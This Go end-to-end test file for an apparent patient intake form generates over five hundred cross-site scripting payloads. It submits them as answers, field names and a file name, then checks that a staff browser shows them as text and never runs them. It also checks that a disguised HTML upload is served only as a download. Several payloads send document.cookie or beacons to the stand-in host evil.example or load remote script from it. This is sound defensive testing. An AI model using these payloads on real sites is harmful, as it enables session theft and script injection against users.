package e2e

import (
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// payloads are ways to make a page run what a visitor typed: each act in each wrapping that has ever worked
// somewhere. All acts set a mark, open a dialog or call out.
func payloads() []string {
	acts := []string{
		"alert(1)", "window.pwned=1", "fetch('https://evil.example/'+document.cookie)", "import('//evil.example/x.js')",
		"location='https://evil.example'", "parent.pwned=1", "top['al'+'ert'](1)", "[].constructor.constructor('alert(1)')()",
		"navigator.sendBeacon('//evil.example',1)", "document.body.innerHTML=1",
	}
	wraps := []string{
		`<script>%s</script>`, `</title><script>%s</script>`, `</textarea><script>%s</script>`, `"><script>%s</script>`,
		`'><script>%s</script>`, `<ScRiPt x>%s</sCrIpT>`, `<script
>%s</script
>`, `<<script>%s//<</script>`, `<img src=x onerror="%s">`, `"><img src=x onerror=%s>`, `' onmouseover='%s' x='`,
		`" autofocus onfocus="%s" x="`, `<svg onload="%s">`, `<svg><script>%s</script></svg>`, `<svg><animate onbegin="%s" attributeName=x dur=1s>`,
		`<math><mtext></form><form><mglyph><style></math><img src onerror="%s">`, `<iframe src="javascript:%s"></iframe>`,
		`<iframe srcdoc="<script>%s</script>"></iframe>`, `<a href="javascript:%s">x</a>`, `javascript:%s`, `<object data="javascript:%s">`,
		`<embed src="javascript:%s">`, `<details open ontoggle="%s">`, `<video><source onerror="%s"></video>`, `<body onload="%s">`,
		`<input autofocus onfocus="%s">`, `<select autofocus onfocus="%s">`, `<marquee onstart="%s">`, `<meta http-equiv=refresh content="0;url=javascript:%s">`,
		`<base href="//evil.example/"><script>%s</script>`, `<link rel=stylesheet href=//evil.example/x.css><!--%s-->`,
		`<style>@import '//evil.example/x.css';/*%s*/</style>`, `<form action=javascript:%s><button autofocus>x`, `<noscript><p title="</noscript><img src=x onerror=%s>">`,
		`<template><script>%s</script></template>`, `<xmp><p title="</xmp><svg/onload=%s>">`, `<!--><script>%s</script>-->`, `{{constructor.constructor('%s')()}}`,
		`{{"%s"|html}}{{template "x"}}`, `{{.}}<script>%s</script>`, `${%s}`, `<%%= %s %%>`, `#{%s}`, "`;%s//`", `';%s//`, `";%s//`, `\u003cscript\u003e%s\u003c/script\u003e`,
		`&lt;script&gt;%s&lt;/script&gt;`, `%%3Cscript%%3E%s%%3C/script%%3E`, `+ADw-script+AD4-%s+ADw-/script+AD4-`,
	}
	var all []string
	for _, w := range wraps {
		for _, a := range acts {
			all = append(all, fmt.Sprintf(w, a))
		}
	}
	return all
}

// TestHostileAnswers sends five hundred ways to run a script, as answers, as names of files and as questions that the
// form does not have, and opens all of them in a staff member's browser.
// covers WB01, WB15, IN09, CR06
func TestHostileAnswers(t *testing.T) {
	whole(t)
	d := start(t, t.TempDir())
	all := payloads()
	if len(all) < 500 {
		t.Fatalf("only %d payloads", len(all))
	}
	var sent []string
	for rest := all; len(rest) > 0; {
		n := min(30, len(rest))
		sent = append(sent, d.hostile(rest[:n]))
		rest = rest[n:]
	}
	b := d.browser(true)
	b.enter()
	for _, ref := range sent {
		b.load(d.staff() + "/inbox")
		b.through(chromedp.Click(chromedp.JSPath(linkTo(ref))))
		if words := b.words(); !strings.Contains(words, "script") && !strings.Contains(words, "evil") {
			t.Errorf("%s does not show what was sent:\n%.500s", ref, words)
		}
		if run(b, chromedp.Evaluate[bool](`"pwned" in window`)) {
			t.Errorf("%s ran a script", ref)
		}
		b.quiet("opening " + ref)
	}
	b.load(d.staff() + "/inbox")
	b.quiet("the inbox")
}

// hostile sends payloads in every place there is and gives the reference.
func (d *demo) hostile(some []string) string {
	d.t.Helper()
	v := d.visitor()
	f, err := v.open("new-patient")
	if err != nil {
		d.t.Fatal(err)
	}
	var pairs [][2]string
	long := strings.Join(some, "\n")
	for _, c := range f.controls {
		switch c.kind {
		case "hidden", "checkbox", "radio":
			pairs = append(pairs, [2]string{c.name, c.value})
		case "textarea":
			pairs = append(pairs, [2]string{c.name, long[:min(len(long), 1800)]})
		case "file", "submit":
		default:
			pairs = append(pairs, [2]string{c.name, text(c, func(name string) string {
				if c.kind == "email" {
					return "a"
				}
				return some[len(name)%len(some)]
			})})
		}
	}
	for i, p := range some {
		pairs = append(pairs, [2]string{fmt.Sprintf("extra%d%s", i, p[:min(len(p), 90)]), p})
	}
	file := upload{f.fileField(d.t), some[0] + ".jpg", "image/jpeg", picture()}
	ref, a, err := v.send(f.encode(once(pairs), []upload{file}, ""))
	if err != nil || ref == "" {
		d.t.Fatalf("hostile answers are not taken: %v %s", err, show(a))
	}
	return ref
}

// linkTo finds the inbox's link to a submission.
func linkTo(ref string) string {
	return `[...document.querySelectorAll("a")].find(a => a.textContent.trim() === "` + ref + `")`
}

// TestTextFilesStayClosed: a file that begins as a picture and is a page is saved, never shown, whatever it claims.
// covers WB02, IN12
func TestTextFilesStayClosed(t *testing.T) {
	whole(t)
	d := start(t, t.TempDir())
	page := []byte(`<html><script>window.pwned=1;alert(1)</script>`)
	f, err := d.visitor().open("new-patient")
	if err != nil {
		t.Fatal(err)
	}
	p := f.fill(words(), upload{f.fileField(t), "page.jpg", "image/jpeg", append([]byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00"), page...)})
	ref, a, err := d.visitor().send(p)
	if err != nil || ref == "" {
		t.Fatalf("not taken: %v %s", err, show(a))
	}
	s := d.signIn()
	for _, l := range links(s.get(s.find(ref))) {
		if !strings.HasPrefix(l.text, "Save") {
			continue
		}
		a, err := s.v.do("GET", d.Viewer+l.address, "", nil)
		if err != nil {
			t.Fatal(err)
		}
		for name, want := range map[string]string{
			"Content-Type": "application/octet-stream", "X-Content-Type-Options": "nosniff",
			"Cross-Origin-Resource-Policy": "same-origin",
		} {
			if got := a.header.Get(name); got != want {
				t.Errorf("%s of a file is %q, want %q", name, got, want)
			}
		}
		if !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") || !strings.Contains(a.header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("a file is sent with %v", a.header)
		}
		return
	}
	t.Error("the submission page offers no file")
}
